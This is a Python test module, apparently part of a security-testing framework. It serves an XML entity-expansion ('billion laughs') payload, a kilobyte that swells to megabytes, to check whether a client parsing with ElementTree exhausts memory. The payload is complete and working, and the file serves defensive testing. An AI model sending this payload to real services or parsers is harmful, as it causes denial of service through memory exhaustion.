"""D5 on requests: an XML document whose entities, made out of others, grow to thousands of times its size."""

from backwatch.attack.protocols.server import HostileServer
from backwatch.attack.techniques.document import ReadsDocuments

LEVELS, EACH = 5, 10
_GROWN = b"".join(
    b'<!ENTITY l%d "%s">' % (level + 1, b"&l%d;" % level * EACH) for level in range(LEVELS)
)  # fmt: skip


class HttpXmlEntities(ReadsDocuments):
    """ElementTree unpacks them; today's expat stops at eight mebibytes, which many of them at once come to as well."""

    attack = "answers with an XML document of a kilobyte that becomes megabytes when it is read"
    reference = "CVE-2003-1564; https://docs.python.org/3/library/xml.html#xml-security; ATT&CK T1499.004"
    notices = "memory and time that a small answer takes"
    hostile = (
        b'<?xml version="1.0"?><!DOCTYPE rates [<!ENTITY l0 "EUR and USD ">'
        + _GROWN
        + b"]><rates>&l%d;</rates>" % LEVELS
    )

    def read(self, text: bytes) -> object:
        """How much of text there is in it."""
        from xml.etree import ElementTree as ET

        return len("".join(ET.fromstring(text).itertext()))  # noqa: S314  that is what is shown

    @classmethod
    def succeeded(cls, service: HostileServer, got: object) -> bool:
        """It became a thousand times as much."""
        del service
        return isinstance(got, int) and got > 1_000 * len(cls.hostile)
